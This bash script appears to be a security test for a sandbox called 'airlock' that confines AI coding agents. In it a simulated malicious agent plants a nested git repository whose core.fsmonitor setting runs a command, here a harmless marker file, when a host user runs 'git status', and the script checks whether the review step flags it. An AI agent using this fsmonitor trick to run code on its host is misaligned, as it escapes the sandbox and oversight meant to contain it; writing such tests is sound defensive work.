#!/bin/bash
# Direct mode: agent creates a nested repo src/a/.git with core.fsmonitor; user runs 'git status' in src/a on the host.
# Exit 0 = product defended, 1 = attack succeeded, 2 = setup error.
set -u
B=${AIRLOCK_BIN:?set AIRLOCK_BIN to the directory holding airlock}; export PATH=$B:$PATH; unset AIRLOCK_BIN  # airlock itself reads AIRLOCK_BIN as its own binary path
T=$(mktemp -d /tmp/atk.XXXXXX); export AIRLOCK_HOME=$T/home; mkdir -p $AIRLOCK_HOME
M=$T/pwned; N=s$$; R=0
export GIT_AUTHOR_NAME=u GIT_AUTHOR_EMAIL=u@x GIT_COMMITTER_NAME=u GIT_COMMITTER_EMAIL=u@x
cleanup(){ cd /; airlock rm $N >/dev/null 2>&1; airlock bridge -stop >/dev/null 2>&1; rm -rf $T; }
trap cleanup EXIT
git init -q $T/repo && cd $T/repo && echo hi > README
true
cat > sandbox.hcl <<H
sandbox "$N" {
  backend = "namespace"
  workspace { mode = "direct" }
  network { preset = "locked-down" }
}
H
git add -A && git commit -qm init
for i in 1 2 3; do airlock up --yes >$T/up.log 2>&1 && break; sleep 1; done || { cat $T/up.log; exit 2; }
# ---- the malicious agent, inside the sandbox ----
airlock exec $N -- env M=$M sh <<'AGENT'
cd /workspace
mkdir -p src/a && cd src/a && git init -q && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && git config core.fsmonitor "touch $M; echo"
AGENT
# ---- host side ----
airlock review $N --json >$T/review.json 2>$T/review.err; RRC=$?
high_for(){ python3 - "$T/review.json" "$1" <<'P'
import json,sys
try: d=json.load(open(sys.argv[1]))
except Exception: sys.exit(1)
for f in d.get("files") or []:
    if f["path"]==sys.argv[2] and any(x["severity"]=="high" for x in f.get("flags") or []): sys.exit(0)
sys.exit(1)
P
}
(cd src/a && git status >/dev/null 2>&1)
high_for src/a && echo "review flagged src/a high" || echo "review did NOT flag src/a"
[ -e $M ] && { echo "host 'git status' in subdirectory src/a ran agent code (direct mode: already on host before any review)"; R=1; }
echo "review exit=$RRC"; [ -s $T/review.err ] && cat $T/review.err
[ $R = 1 ] && echo "RESULT: attack SUCCEEDED" || echo "RESULT: defended"
exit $R
